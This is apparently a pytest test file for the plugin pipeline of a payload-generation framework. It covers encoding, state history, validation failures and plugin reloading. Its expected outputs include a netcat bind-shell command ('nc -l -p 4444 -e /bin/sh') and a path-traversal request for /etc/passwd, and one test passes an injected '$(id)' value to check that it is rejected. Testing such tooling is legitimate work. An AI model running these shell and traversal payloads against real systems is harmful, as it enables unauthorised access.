"""Tests for the per-request plugin pipeline."""

import pytest

from armory.contracts import PipelineState

BROKEN_SCHEMA = """
class Weird(BasePayload):
    id = "test/weird"
    params = {"blob": Param("binary")}

    def build(self) -> str:
        return ""
"""

UNBUILDABLE = """
class Unbuildable(BasePayload):
    id = "test/unbuildable"

    def __init__(self):
        raise RuntimeError("no")

    def build(self) -> str:
        return ""
"""


class TestPipelineSuccess:
    """Requests that reach INVOKED."""

    def test_base64_encode(self, pipeline) -> None:
        outcome = pipeline.encode("base64", {}, b"hello")

        assert outcome.state is PipelineState.INVOKED
        assert outcome.artifact == b"aGVsbG8="
        assert outcome.artifact_text() == "aGVsbG8="

    def test_history_records_every_stage(self, pipeline) -> None:
        outcome = pipeline.build("cmd/bind_shell", {"port": "4444"})

        assert outcome.history == [
            PipelineState.RESOLVED,
            PipelineState.SCHEMA_DERIVED,
            PipelineState.VALIDATED,
            PipelineState.BOUND,
            PipelineState.INVOKED,
        ]
        assert outcome.artifact == "nc -l -p 4444 -e /bin/sh"

    def test_exploit_build(self, pipeline) -> None:
        from armory.contracts import PluginKind

        outcome = pipeline.build(
            "http/path_traversal",
            {"host": "target.local", "depth": "2"},
            PluginKind.EXPLOIT,
        )

        assert outcome.ok
        assert outcome.artifact.startswith("GET /download?file=../../etc/passwd HTTP/1.1\r\n")

    def test_fresh_instance_per_request(self, pipeline) -> None:
        first = pipeline.build("cmd/bind_shell", {"port": "1", "shell": "zsh"})
        second = pipeline.build("cmd/bind_shell", {"port": "2"})

        assert first.plugin is not second.plugin
        assert second.artifact == "nc -l -p 2 -e /bin/sh"

    def test_repository_plugin(self, pipeline, write_plugin) -> None:
        write_plugin(
            "encoders",
            "test/reverse",
            """
            class Reverse(BaseEncoder):
                id = "test/reverse"

                def encode(self, data: bytes) -> bytes:
                    return data[::-1]
            """,
        )

        outcome = pipeline.encode("test/reverse", {}, b"abc")

        assert outcome.artifact == b"cba"


class TestPipelineFailures:
    """Requests ending in a failed terminal state."""

    def test_missing_port_single_error(self, pipeline) -> None:
        from armory.contracts import FieldErrorKind

        outcome = pipeline.build("cmd/bind_shell", {})

        assert outcome.state is PipelineState.VALIDATION_FAILED
        assert len(outcome.errors) == 1
        assert outcome.errors[0].field == "port"
        assert outcome.errors[0].kind is FieldErrorKind.MISSING_REQUIRED
        assert PipelineState.BOUND not in outcome.history

    def test_bind_failure(self, pipeline) -> None:
        outcome = pipeline.build("cmd/reverse_shell", {"host": "$(id)", "port": "1"})

        assert outcome.state is PipelineState.BIND_FAILED
        assert outcome.bind_error.field == "host"

    def test_plugin_validate_failure(self, pipeline) -> None:
        from armory.contracts import InvocationStage

        outcome = pipeline.build("cmd/port_knock", {"host": "h", "ports": "7000"})

        assert outcome.state is PipelineState.INVOCATION_FAILED
        assert outcome.failure.stage is InvocationStage.VALIDATE

    def test_unknown_identifier(self, pipeline) -> None:
        from armory.contracts import ClassNotFound

        with pytest.raises(ClassNotFound):
            pipeline.build("cmd/nope", {})

    def test_unsupported_param_kind(self, pipeline, write_plugin) -> None:
        from armory.contracts import UnsupportedParamKind

        write_plugin("payloads", "test/weird", BROKEN_SCHEMA)

        with pytest.raises(UnsupportedParamKind):
            pipeline.build("test/weird", {})

    def test_construction_failure_is_load_error(self, pipeline, write_plugin) -> None:
        from armory.contracts import PluginLoadError

        write_plugin("payloads", "test/unbuildable", UNBUILDABLE)

        with pytest.raises(PluginLoadError, match="cannot construct"):
            pipeline.build("test/unbuildable", {})

    def test_mode_must_fit_kind(self, pipeline) -> None:
        from armory.contracts import Build, PluginKind

        with pytest.raises(ValueError):
            pipeline.run(PluginKind.ENCODER, "base64", {}, Build())


class TestReloadPlugins:
    """reload_plugins drops the lazy-load cache per request."""

    def test_edits_picked_up(self, registry, write_plugin) -> None:
        from armory.plugins import PluginPipeline

        source = """
            class Const(BasePayload):
                id = "test/const"

                def build(self) -> str:
                    return "{value}"
            """
        pipeline = PluginPipeline(registry, reload_plugins=True)

        write_plugin("payloads", "test/const", source.replace("{value}", "one"))
        assert pipeline.build("test/const", {}).artifact == "one"

        # Different source size, so bytecode cached within the same second is stale
        write_plugin("payloads", "test/const", source.replace("{value}", "second"))
        assert pipeline.build("test/const", {}).artifact == "second"
